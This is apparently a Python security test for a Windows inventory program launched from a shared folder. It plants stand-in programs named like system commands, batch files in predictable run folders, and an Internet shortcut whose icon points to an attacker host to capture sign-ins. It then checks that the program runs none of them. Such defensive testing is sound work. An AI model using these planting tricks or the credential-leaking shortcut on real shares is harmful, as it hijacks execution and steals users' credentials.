#!/usr/bin/env python3
"""The program on a share that every user may write to, after a colleague
has planted everything they could there: programs named like the system
commands the run uses, beside tallyhawk.exe in a folder with a blank in its
path; the run folders an older version would take (SAVE\\<computer name>-1 to
-1000) and the batch files it would write, all with planted lines; and an
earlier CSV of the same number whose 300-character computer name would make
the set-aside name too long. The whole run (the registry scan through the
stand-ins for the task scheduler and the elevation prompt) must still reach
its success notice, run nothing planted, deliver this run's report, keep the
planted CSV under another name, and write no batch file or dump to the
share at any time. A planted Internet shortcut whose icon lies on another
computer keeps Explorer from being opened on SAVE (drawing it would send the
user's sign-in there), with an Error.Log entry saying so.

And a colleague who keeps another name of a user's earlier report (a hard
link stands in for a handle held open): the user's second run of the same PC
and number must deliver into a new file, so the colleague's name still holds
the first report only."""

import os
import threading
import time
import unittest

import harness
import runs

FOLDER = r"C:\Shared Tools\棚卸"
PC = "PC-VICTIM"
COMMANDS = ("cmd.exe", "explorer.exe", "hostname.exe", "reg.exe", "schtasks.exe", "powershell.exe", "timeout.exe")
BATCH_FILES = ("TrustLevel.CMD", "Runas.CMD", "RegScan.CMD")
BATCH_MARKER = r"C:\planted-batch.ran"
PLANTED_BATCH = f'@echo off\r\necho ran> "{BATCH_MARKER}"\r\n'.encode("cp932")
LONG_NAME = "X" * 300
PLANTED_CSV = ("Key,Group,Item,SubItem,Contents,Unit,Renewalday\r\n"
               f"abc-05-0012,LAN,LAN,コンピュータ名,{LONG_NAME},,2026/12/01\r\n"
               "abc-05-0012,WMI,MotherBoard,Device_ID,{PLANTED},,2026/12/01\r\n").encode("cp932")
LURE = b"[InternetShortcut]\r\nURL=https://example.invalid/\r\nIconFile=\\\\attacker.invalid\\icons\\a.ico\r\nIconIndex=0\r\n"
LURE_ENTRY = ("保存先フォルダーに、表示すると別のコンピューターへ接続するおそれのあるファイル (ショートカットなど) があるため、"
              "フォルダーを開きませんでした。")
# "前回 2026-12-01 " is 14 characters; the name fills the rest of the 56.
SET_ASIDE = "abc-05-0012 (前回 2026-12-01 " + "X" * 42 + ").csv"


def plant(s, tools):
    """Plants everything; returns {unix path: bytes} of each planted file."""
    standin = harness.current_config().tool("planted_standin.exe").read_bytes()
    planted = {tools / name: standin for name in COMMANDS}
    save = tools / "SAVE"
    for name in BATCH_FILES:
        planted[save / name] = PLANTED_BATCH
    for n in range(1, 1001):
        for name in BATCH_FILES:
            planted[save / f"{PC}-{n}" / name] = PLANTED_BATCH
    planted[save / "abc-05-0012.csv"] = PLANTED_CSV
    planted[save / "お知らせ.url"] = LURE
    for path, data in planted.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return planted


class Watch(threading.Thread):
    """Records every batch file or dump that appears on the share while the
    run goes on (it would be deleted again before the run ends)."""

    def __init__(self, tools, planted):
        super().__init__(daemon=True)
        self.tools, self.planted, self.seen, self.done = tools, set(planted), set(), threading.Event()

    def run(self):
        while not self.done.is_set():
            for p in self.tools.rglob("*"):
                if p not in self.planted and (p.suffix.upper() == ".CMD" or p.name.upper() == "TH_REG.TXT"):
                    self.seen.add(str(p.relative_to(self.tools)))
            time.sleep(0.2)


class HostileShare(unittest.TestCase):
    def test_nothing_planted_runs_and_the_report_is_delivered(self):
        config = harness.current_config()
        with harness.Scenario("hostile_share", hostname=PC) as s:
            s.install_standins({"schtasks.exe": config.tool("schtasks_standin.exe"),
                                "powershell.exe": config.tool("powershell_standin.exe")})
            s.import_reg('[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\THe2e V]\n'
                         '"DisplayName"="Victim Tool"\n')
            program = s.put(config.exe, FOLDER)
            tools = s.unix_path(FOLDER)
            planted = plant(s, tools)
            watch = Watch(tools, planted)
            watch.start()

            process = s.start(program)  # from the share, as a double click starts it
            form = runs.wait_entry_form(s, process)

            ran = sorted(str(p.relative_to(tools)) for p in tools.glob("*.ran"))
            batch_ran = s.unix_path(BATCH_MARKER).exists()
            self.assertIsNotNone(form, f"no entry form; planted programs run: {ran}, planted batch run: {batch_ran}")
            runs.fill_entry_form(s, form)
            ending = runs.wait_final_notice(s, process)
            watch.done.set()
            self.assertEqual(ending.message, runs.SUCCESS)
            self.assertEqual(ending.explorers, [], "Explorer was opened on a folder holding a lure")
            runs.dismiss_final_notice(s)
            self.assertEqual(process.wait(60), 0)
            watch.join(5)
            self.assertIn(["Main", LURE_ENTRY], [[e[2], e[10]] for e in runs.error_log_entries(tools)])

            self.assertEqual(sorted(str(p.relative_to(tools)) for p in tools.rglob("*.ran")), [],
                             "a planted program ran")
            self.assertFalse(s.unix_path(BATCH_MARKER).exists(), "a planted batch file ran")
            self.assertEqual(sorted(watch.seen), [], "a batch file or dump was written to the share")
            changed = [str(p) for p, data in planted.items() if p.name != "abc-05-0012.csv" and p.read_bytes() != data]
            self.assertEqual(changed, [], "planted files were written to")

            save = tools / "SAVE"
            self.assertEqual((save / SET_ASIDE).read_bytes(), PLANTED_CSV, "the planted CSV is kept aside")
            report = (save / "abc-05-0012.csv").read_bytes().decode("cp932").split("\r\n")
            rows = [line.split(",") for line in report[1:] if line]
            self.assertIn(PC, {r[4].upper() for r in rows if r[1:4] == ["LAN", "LAN", "コンピュータ名"]})
            self.assertIn("Victim Tool", [r[3] for r in rows if r[1:3] == ["Soft", "Application"]])
            self.assertIn(["abc-05-0012", "資産", "管理情報", "管理番号", "abc-05-0012"], [r[:5] for r in rows])
            self.assertEqual(runs.run_folders(s), [], "the run's own folder is gone")

    def deliver(self, s, program):
        """One whole run to its success notice; the report's bytes."""
        runs.provide_dump(s, b"\r\n")
        process = s.start(program)
        form = runs.wait_entry_form(s, process)
        self.assertIsNotNone(form, "no entry form")
        runs.fill_entry_form(s, form)
        ending = runs.wait_final_notice(s, process)
        self.assertEqual(ending.message, runs.SUCCESS)
        runs.dismiss_final_notice(s)
        self.assertEqual(process.wait(60), 0)
        return (s.unix_path(FOLDER) / "SAVE" / "abc-05-0012.csv").read_bytes()

    def test_a_colleagues_other_name_of_the_earlier_report_keeps_it(self):
        with harness.Scenario("hostile_share_linked", hostname=PC) as s:
            program = s.put(harness.current_config().exe, FOLDER)
            tools = s.unix_path(FOLDER)
            first = self.deliver(s, program)
            colleague = tools / "colleague" / "kept.csv"
            colleague.parent.mkdir()
            os.link(tools / "SAVE" / "abc-05-0012.csv", colleague)

            second = self.deliver(s, program)
            self.assertNotEqual(second, first, "the second run's report is its own (its time differs)")
            self.assertEqual(colleague.read_bytes(), first, "the colleague's name received the second report")
            self.assertEqual(sorted(p.name for p in (tools / "SAVE").iterdir()), ["abc-05-0012.csv"],
                             "this PC's earlier report is gone from SAVE once the new one is there")
            procedures = [e[2] for e in runs.error_log_entries(tools)]
            self.assertEqual(procedures, ["GetBIOS", "GetBIOS"], "Wine's BIOS query fails; nothing else may")


if __name__ == "__main__":
    harness.main()
